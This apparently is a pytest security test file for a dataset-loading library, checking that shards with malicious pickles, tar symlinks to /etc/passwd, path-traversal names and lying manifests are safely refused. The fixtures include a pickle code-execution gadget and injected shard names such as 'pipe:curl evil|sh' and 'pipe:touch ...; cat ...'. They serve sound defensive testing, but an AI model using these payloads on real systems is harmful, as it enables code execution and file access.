"""Hostile input: pickles in shards, tar tricks, manifests that lie or point elsewhere.

Guarantees: nothing in a shard is deserialised or executed, nothing outside the dataset (and the
shard cache) is touched, two samples are never merged into one, and a bad manifest is refused
with a :class:`shardkit.ManifestError` that says why.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import tarfile

import numpy as np
import pytest
import torch

import shardkit
from shardkit.errors import ManifestError, StorageError
from shardkit.format.manifest import Manifest
from shardkit.format.tar import ShardReader
from tests.support.data import (
    RecordingFile,
    jpeg_bytes,
    manifest_json,
    member_ranges,
    tar_bytes,
    tree_snapshot,
    write_dataset,
    write_raw_dataset,
)

SMALL = dict(size=16, pin_memory=False, multiprocessing_context="fork")


class Evil:
    """Unpickling this creates ``marker`` (a stand-in for running arbitrary code)."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _evil_payloads(marker: str) -> dict[str, bytes]:
    import io

    npy = io.BytesIO()
    np.save(npy, np.array([Evil(marker)], dtype=object), allow_pickle=True)
    pth = io.BytesIO()
    torch.save({"x": Evil(marker)}, pth)
    p = pickle.dumps(Evil(marker))
    return {"pyd": p, "pickle": p, "pth": pth.getvalue(), "npy": npy.getvalue(), "mp": p, "pkl": p}


def test_pickles_numpy_objects_and_torch_files_never_deserialised(tmp_path):
    marker = str(tmp_path / "PWNED")
    evil = _evil_payloads(marker)
    members = []
    for i in range(6):
        members += [(f"s{i}.cls", str(i % 2).encode()), (f"s{i}.jpg", jpeg_bytes(i % 2, i, (32, 24)))]
        members += [(f"s{i}.{ext}", data) for ext, data in evil.items()]
    root = write_raw_dataset(str(tmp_path / "ds"), [(tar_bytes(members), 6)], ["a", "b"])
    for raw in (False, True):
        loader = shardkit.load(root, batch_size=4, num_workers=2, raw=raw, **SMALL)
        if raw:
            got = [s for batch in loader for s in batch]
            assert sorted(s.key for s in got) == [f"s{i}" for i in range(6)]
            assert all(not hasattr(s, "extra") for s in got)  # foreign members are not even kept as bytes
        else:
            assert sum(len(lb) for _, lb in loader) == 6
    assert not os.path.exists(marker)
    # and webdataset (which would unpickle .pyd) is not what reads them: not a byte of them is read
    with open(os.path.join(root, "train-000000.tar"), "rb") as fh:
        data = fh.read()
    f = RecordingFile(data)
    r = ShardReader(f, "x.tar")
    while r.read(r.index) is not None:
        pass
    foreign = {n: rng for n, rng in member_ranges(data).items() if n.rsplit(".", 1)[1] in evil}
    assert len(foreign) == 6 * len(evil)
    assert {n: f.touched(*rng) for n, rng in foreign.items() if f.touched(*rng)} == {}
    assert f.touched(*member_ranges(data)["s0.jpg"])  # (the recording works: images are read)


def _info(name: str, kind: bytes, linkname: str = "") -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.type = kind
    ti.linkname = linkname
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        ti.devmajor, ti.devminor = 1, 3  # /dev/null
    return ti


def _tricky_shard() -> tuple[bytes, dict[str, list[tuple[int, bytes]]]]:
    """A shard full of tar tricks; returns it and the (label, jpeg) each delivered key must carry."""
    J = {n: jpeg_bytes(n % 3, n, (24, 20)) for n in range(10)}
    members = [
        ("a.cls", b"0"),
        ("a.jpg", J[0]),
        (_info("b.jpg", tarfile.SYMTYPE, "/etc/passwd"), None),
        ("b.cls", b"1"),  # symlink: not a sample member
        (_info("c.jpg", tarfile.LNKTYPE, "a.jpg"), None),
        ("c.cls", b"1"),  # hard link: not a sample member
        (_info("d.jpg", tarfile.CHRTYPE), None),
        (_info("d.cls", tarfile.FIFOTYPE), None),  # devices: no sample at all
        (_info("dir.d", tarfile.DIRTYPE), None),
        ("../../escape/e.cls", b"1"),
        ("../../escape/e.jpg", J[1]),  # names are only strings, and these are damage
        ("/abs/root/f.cls", b"2"),
        ("/abs/root/f.jpg", J[2]),
        ("g.cls", b"1"),
        ("g.jpg", J[3]),
        ("g.cls", b"2"),
        ("g.jpg", J[4]),  # duplicate key: never merged, the second is damage
        ("h.v2.cls", b"0"),
        ("h.v2.jpg", J[5]),  # key "h", fields "v2.*": not a usable sample
        ("dir.x/i.cls", b"0"),
        ("dir.x/i.jpg", J[6]),
        ("j.jpg", J[7]),
        ("j.cls", b"9"),  # label outside the 3 classes
    ]
    expect = {"a": [(0, J[0])], "g": [(1, J[3])], "dir.x/i": [(0, J[6])]}
    return tar_bytes(members), expect


@pytest.mark.parametrize("where", ["local", "http+cache"])
def test_tar_tricks_touch_nothing_and_never_merge_samples(tmp_path, http_root, where):
    data, expect = _tricky_shard()
    # samples the reader finds: a b c e f g g h i j = 10 (d has no regular member)
    root = write_raw_dataset(str(tmp_path / "work" / "ds"), [(data, 10)], ["x", "y", "z"])
    url, cache = root, None
    if where != "local":
        base, directory = http_root
        shutil.copytree(root, os.path.join(directory, "ds"))
        url, cache = f"{base}/ds", str(tmp_path / "work" / "cache")
    before = tree_snapshot(str(tmp_path))
    raw = [
        s
        for batch in shardkit.load(url, batch_size=3, num_workers=0, raw=True, shuffle=False, cache_dir=cache, **SMALL)
        for s in batch
    ]
    got: dict[str, list] = {}
    for s in raw:
        got.setdefault(s.key, []).append((s.label, s.jpeg))
    assert got == expect
    loader = shardkit.load(url, batch_size=3, num_workers=2, cache_dir=cache, with_keys=True, **SMALL)
    keys = [k for _, _, ks in loader for k in ks]
    assert sorted(keys) == sorted(k for k, v in expect.items() for _ in v)
    assert (
        loader.stats.skipped == 7
    )  # b, c (links), e, f (unsafe names), g (repeated key), h (dotted fields), j (label out of range)
    after = tree_snapshot(str(tmp_path))
    new = set(after) - set(before)
    assert all(p.startswith(os.path.join("work", "cache")) for p in new), new  # only the shard cache grew
    assert not os.path.exists(tmp_path / "escape") and not os.path.exists("/abs/root")


def _shard(**over):
    return {"name": "train-000000.tar", "samples": 1, "bytes": 10, "sha256": "0" * 64, **over}


@pytest.mark.parametrize(
    "text, match",
    [
        (b"\xff\xfe garbage", "not valid JSON"),
        ("[" * 100_000 + "]" * 100_000, "not valid JSON"),
        ("", "not valid JSON"),
        (manifest_json(version="1"), "version '1'"),
        (manifest_json(version=4), "version 4"),
        (manifest_json(shards=[_shard(samples=1 << 50)]), "impossible count"),
        (manifest_json(shards=[_shard(bytes=-5)]), "impossible count"),
        (manifest_json(shards=[_shard(samples=1.5)]), "wrong field types"),
        (manifest_json(shards=[_shard(samples=True)]), "wrong field types"),
        (manifest_json(shards={"name": "x"}), "malformed"),
        (manifest_json(shards=[_shard(), _shard()]), "listed twice"),
        (manifest_json(shards=[_shard(extra=1)]), "malformed"),
        (manifest_json(class_counts=[1e400]), "malformed"),
        (manifest_json(class_counts=["NaN"]), "malformed"),
        (manifest_json(class_counts=[-1]), "class_counts"),
        (manifest_json(classes="abc"), "classes"),
        (manifest_json(num_samples=5), "num_samples"),
        (manifest_json(shards=[_shard(name="file:///etc/passwd.tar")]), "not a plain file name"),
        (manifest_json(shards=[_shard(name="file:train.tar")]), "not a plain file name"),
        (manifest_json(shards=[_shard(name="..tar")]), "not a plain file name"),
        (manifest_json(shards=[_shard(name="a/../../b.tar")]), "not a plain file name"),
        (manifest_json(shards=[_shard(name="C:\\x.tar")]), "not a plain file name"),
        (manifest_json(shards=[_shard(name="pipe:curl evil|sh #.tar")]), "not a plain file name"),
        (manifest_json(shards=[_shard(name="https://evil.example/x.tar")]), "not a plain file name"),
        (manifest_json(shards=[_shard(name="train\n.tar")]), "not a plain file name"),
        (manifest_json(shards=[_shard(name="train-000000.tar\n")]), "not a plain file name"),
        (manifest_json(shards=[_shard(sha256="0" * 64 + "\n")]), "sha256"),
    ],
)
def test_bad_manifests_refused_with_reason(text, match):
    with pytest.raises(ManifestError, match=match):
        Manifest.from_json(text, url="mem://m.json")


def test_manifest_huge_total_refused():
    shards = [_shard(name=f"t{i}.tar", samples=(1 << 40) - 1) for i in range(1 << 4)]
    with pytest.raises(ManifestError, match="impossible"):
        Manifest.from_json(manifest_json(shards=shards), url="mem://m.json")


def test_dataset_urls_that_run_commands_or_point_elsewhere_refused(tmp_path):
    marker = tmp_path / "PWNED"
    with pytest.raises(StorageError, match="pipe:"):
        shardkit.load(f"pipe:touch {marker}", num_workers=0)
    with pytest.raises(StorageError, match="pipe:"):
        shardkit.load(f"pipe:touch {marker}; cat manifest.json", num_workers=0, allow_unsafe_names=True)
    assert not marker.exists()
    # a shard name that is a command
    ds = write_dataset(str(tmp_path / "ds"), num_samples=4, shard_size=4)
    m = json.loads(open(os.path.join(ds.url, "manifest.json")).read())
    m["shards"][0]["name"] = f"pipe:touch {marker}; cat {ds.url}/train-000000.tar"
    with open(os.path.join(ds.url, "manifest.json"), "w") as f:
        json.dump(m, f)
    with pytest.raises(ManifestError, match="not a plain file name"):
        shardkit.load(ds.url, num_workers=0)
    with pytest.raises(StorageError, match="not found"):  # trusted names are still joined under the dataset: no shell
        list(shardkit.load(ds.url, num_workers=0, allow_unsafe_names=True, **SMALL))
    assert not marker.exists()


def test_wrong_checksum_found_by_verify(tmp_path, capsys):
    from shardkit.cli import main

    ds = write_dataset(str(tmp_path / "ds"), num_samples=12, shard_size=4)
    path = os.path.join(ds.url, "manifest.json")
    m = json.loads(open(path).read())
    m["shards"][1]["sha256"] = "f" * 64
    with open(path, "w") as f:
        json.dump(m, f)
    assert main(["verify", ds.url, "--quick"]) == 1  # 1: problems found (2 would be a usage error)
    out = capsys.readouterr().out.splitlines()
    assert out[0].endswith("train-000001.tar: sha256 does not match the manifest (the shard changed or is damaged)"), (
        out
    )
    assert out[1].startswith("1 problem(s): checksums of 3 shards") and len(out) == 2, out
